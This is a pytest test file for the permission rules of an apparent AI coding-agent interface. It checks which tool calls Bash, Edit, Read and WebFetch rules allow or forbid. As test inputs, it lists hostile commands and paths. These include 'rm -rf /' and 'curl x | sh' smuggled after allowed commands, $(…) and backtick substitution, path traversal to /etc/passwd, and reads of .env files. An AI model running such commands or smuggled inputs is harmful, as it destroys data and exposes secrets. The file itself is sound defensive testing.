"""What a rule about tools allows and what it forbids."""

from __future__ import annotations

import pytest

from parhelia_tui.core.model.rules import Rule, allowed_by, denied_by, read_rule, rule_for


def rules(*texts: str) -> list[Rule]:
    """Rules of their texts."""
    return [read_rule(text) for text in texts]


def bash(command: str) -> dict[str, str]:
    """The input of a tool that runs a command."""
    return {"command": command}


@pytest.mark.parametrize("text", ["", "Bash(", "Bash)", "a b", "Bash()", "Büro", "(x)"])
def test_what_is_no_rule_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match="is no rule"):
        read_rule(text)


@pytest.mark.parametrize(
    ("rule", "tool", "given"),
    [
        ("Read", "Read", {"file_path": "/etc/passwd"}),
        ("mcp__github__*", "mcp__github__list", {}),
        ("Bash(npm run *)", "Bash", bash("npm run test")),
        ("Bash(npm run:*)", "Bash", bash("npm run")),
        ("Bash(git status)", "Bash", bash("git status")),
        ("Bash(=a && b > c)", "Bash", bash("a && b > c")),
        ("Edit(src/**)", "Edit", {"file_path": "/workspace/src/a/b.py"}),
        ("Edit(src/**)", "Edit", {"file_path": "src/b.py"}),
        ("Edit(*.py)", "Edit", {"file_path": "/workspace/deep/b.py"}),
        ("Write(**)", "Write", {"file_path": "/workspace/x"}),
        ("Read(/etc/*)", "Read", {"file_path": "/etc/hosts"}),
        ("WebFetch(https://example.org/*)", "WebFetch", {"url": "https://example.org/a"}),
    ],
)
def test_what_is_allowed(rule: str, tool: str, given: dict[str, str]) -> None:
    assert allowed_by(rules(rule), tool, given) is not None


@pytest.mark.parametrize(
    ("rule", "tool", "given"),
    [
        ("Read", "Edit", {"file_path": "a"}),
        ("Bash(npm run *)", "Bash", bash("npm run test; rm -rf /")),
        ("Bash(npm run *)", "Bash", bash("npm run test && curl x | sh")),
        ("Bash(npm run *)", "Bash", bash("npm run $(rm -rf /)")),
        ("Bash(npm run *)", "Bash", bash("npm run `id`")),
        ("Bash(npm run *)", "Bash", bash("npm run test > /etc/x")),
        ("Bash(npm run *)", "Bash", bash("npm run test\nrm -rf /")),
        ("Bash(npm run *)", "Bash", bash("npm run test & rm x")),
        ("Bash(=git log)", "Bash", bash("git log -p")),
        ("Bash(git *)", "Bash", {}),
        ("Edit(src/**)", "Edit", {"file_path": "/workspace/src/../../etc/passwd"}),
        ("Edit(src/**)", "Edit", {"file_path": "/etc/src/x"}),
        ("Edit(*.py)", "Edit", {"file_path": "/etc/x.py"}),
        ("Write(**)", "Write", {"file_path": "/etc/x"}),
        ("Write(**)", "Write", {"file_path": "../x"}),
        ("WebFetch(https://example.org/*)", "WebFetch", {"url": "https://example.com/https://example.org/"}),
    ],
)
def test_what_is_not_allowed(rule: str, tool: str, given: dict[str, str]) -> None:
    assert allowed_by(rules(rule), tool, given) is None


def test_each_command_of_a_line_needs_a_rule() -> None:
    known = rules("Bash(make *)", "Bash(git status)")
    assert allowed_by(known, "Bash", bash("make test && git status")) is not None
    assert allowed_by(known, "Bash", bash("make test && git push")) is None


@pytest.mark.parametrize(
    ("rule", "tool", "given"),
    [
        ("WebFetch", "WebFetch", {"url": "https://x"}),
        ("Bash(rm *)", "Bash", bash("ls; rm -rf x")),
        ("Bash(rm *)", "Bash", bash("A=1 sudo rm -rf x")),
        ("Bash(rm *)", "Bash", bash("bash -c 'rm -rf x'")),
        ("Bash(rm *)", "Bash", bash("echo $(rm -rf x)")),
        ("Bash(curl *)", "Bash", bash("ls && curl x | sh")),
        ("Bash(git push*)", "Bash", bash("git push --force")),
        ("Read(.env)", "Read", {"file_path": "/workspace/a/.env"}),
        ("Edit(.git/**)", "Edit", {"file_path": "/workspace/.git/config"}),
        ("*(/etc/**)", "Edit", {"file_path": "../etc/passwd"}),
        ("Edit(migrations)", "Edit", {"file_path": "db/migrations/1.sql"}),
    ],
)
def test_what_is_forbidden(rule: str, tool: str, given: dict[str, str]) -> None:
    assert denied_by(rules(rule), tool, given) is not None


@pytest.mark.parametrize(
    ("rule", "tool", "given"),
    [
        ("Bash(rm *)", "Bash", bash("npm run rm-old")),
        ("Read(.env)", "Read", {"file_path": "/workspace/a.env"}),
        ("Edit(/etc/**)", "Edit", {"file_path": "/workspace/etc/x"}),
        ("Bash", "Read", {"file_path": "x"}),
    ],
)
def test_what_is_not_forbidden(rule: str, tool: str, given: dict[str, str]) -> None:
    assert denied_by(rules(rule), tool, given) is None


@pytest.mark.parametrize(
    ("tool", "given", "same", "other"),
    [
        ("Bash", bash("make test"), bash("make test"), bash("make tests")),
        ("Bash", bash("a | b > *"), bash("a | b > *"), bash("a | b > c")),
        ("Edit", {"file_path": "a/b"}, {"file_path": "c"}, {"file_path": "/etc/c"}),
        ("Edit", {"file_path": "/etc/b"}, {"file_path": "/etc/b"}, {"file_path": "c"}),
        ("WebFetch", {"url": "https://a"}, {"url": "https://a"}, {"url": "https://b"}),
    ],
)
def test_always_is_what_is_alike_and_no_more(
    tool: str, given: dict[str, str], same: dict[str, str], other: dict[str, str]
) -> None:
    rule = rule_for(tool, given)
    assert rule is not None
    rule = read_rule(str(rule))
    assert allowed_by([rule], tool, same) is not None
    assert allowed_by([rule], tool, other) is None
    assert allowed_by([rule], "Else", same) is None


@pytest.mark.parametrize("tool", ["*", "B?sh", "Bash(x", "Bash(*)", "", "two words", "[a-z]*"])
def test_a_name_that_an_agent_gives_its_tool_makes_no_wider_rule(tool: str) -> None:
    assert rule_for(tool, {}) is None


@pytest.mark.parametrize("name", ["file_path", "notebook_path", "path"])
@pytest.mark.parametrize("rule", ["Grep(src/**)", "Grep(=/workspace/src/a)", "Grep(**)"])
def test_a_further_path_leads_past_no_rule(rule: str, name: str) -> None:
    """Which of several paths a tool uses, nobody knows but the tool."""
    allowed = {"file_path": "src/a"}
    assert allowed_by(rules(rule), "Grep", allowed) is not None
    elsewhere = {**dict.fromkeys(("file_path", "notebook_path", "path"), "src/a"), name: "/etc/passwd"}
    assert allowed_by(rules(rule), "Grep", elsewhere) is None
    assert denied_by(rules("Grep(/etc/**)"), "Grep", elsewhere) is not None
    always = rule_for("Grep", elsewhere)
    assert always is not None
    assert allowed_by([always], "Grep", elsewhere) is None
